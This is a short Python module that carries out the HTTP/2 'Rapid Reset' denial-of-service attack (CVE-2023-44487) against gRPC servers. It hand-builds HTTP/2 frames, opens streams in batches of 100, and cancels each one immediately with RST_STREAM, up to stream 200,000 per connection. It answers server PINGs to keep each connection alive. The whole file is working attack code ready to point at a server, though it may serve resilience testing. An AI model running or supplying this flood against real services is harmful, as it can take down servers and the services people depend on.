"""Streams that are opened and reset without end (CVE-2023-44487), by one that answers pings."""

from __future__ import annotations

import select
import socket
import struct

FULL_S = 0.3
"""How long a full connection is waited for before another is opened. A server that hangs up may
leave its end open and unread: who went on waiting there would make it look better than it is."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING = 1, 3, 4, 6
ACK, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
LAST_STREAM, AT_ONCE = 200_000, 100


def headers(method: str) -> bytes:
    """The header block of a call."""
    fields = {":path": method, ":authority": "x", "content-type": "application/grpc"}
    block = b"\x83\x86"  # POST, http
    for name, value in {**fields, "te": "trailers"}.items():
        block += b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return block


def flood(one: socket.socket, block: bytes) -> None:
    """On a fresh connection, until it has no numbers left for streams or is closed (OSError)."""
    one.settimeout(FULL_S)
    one.sendall(PREFACE + _frame(SETTINGS, 0, 0) + _frame(SETTINGS, ACK, 0))
    heard = bytearray()
    for begin in range(1, LAST_STREAM, 2 * AT_ONCE):
        said = _pongs(heard)
        for number in range(begin, begin + 2 * AT_ONCE, 2):
            said += _frame(HEADERS, END_HEADERS, number, block)
            said += _frame(RST_STREAM, 0, number, CANCEL)
        one.sendall(said)
        while _readable(one):
            more = one.recv(65_536)
            if not more:
                return
            heard += more


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    length = struct.pack(">I", len(payload))[1:]
    return length + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _readable(one: socket.socket) -> bool:
    pending = getattr(one, "pending", lambda: 0)  # what TLS has read already
    return bool(pending() or select.select([one], [], [], 0)[0])


def _pongs(heard: bytearray) -> bytes:
    """Answers to the pings among the frames that are whole; all of those are taken out."""
    said = b""
    while len(heard) >= 9 and len(heard) >= (end := 9 + int.from_bytes(heard[:3], "big")):
        if heard[3] == PING and not heard[4] & ACK:
            said += _frame(PING, ACK, 0, bytes(heard[9:end]))
        del heard[:end]
    return said
